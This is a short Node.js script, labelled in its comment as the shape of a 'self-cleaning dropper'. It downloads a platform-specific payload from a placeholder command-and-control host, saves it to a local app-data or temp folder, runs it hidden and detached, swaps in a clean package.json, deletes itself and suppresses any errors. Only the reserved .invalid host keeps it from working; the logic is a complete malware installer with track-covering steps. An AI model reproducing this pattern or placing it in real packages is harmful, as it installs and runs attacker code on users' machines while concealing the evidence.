// Shape of a self-cleaning dropper (harmless: reserved .invalid host, payload never fetched).
const fs = require('fs');
const path = require('path');
const { execFile } = require('child_process');
const base = process.env.LOCALAPPDATA || process.env.TMPDIR || '.';
async function main() {
  const res = await fetch(`https://c2.example.invalid/p/${process.platform}`);
  const file = path.join(base, 'svc-helper');
  fs.writeFileSync(file, Buffer.from(await res.arrayBuffer()));
  execFile(file, { windowsHide: true, detached: true });
  fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
  fs.rmSync(__filename, { force: true });
}
main().catch(() => {});
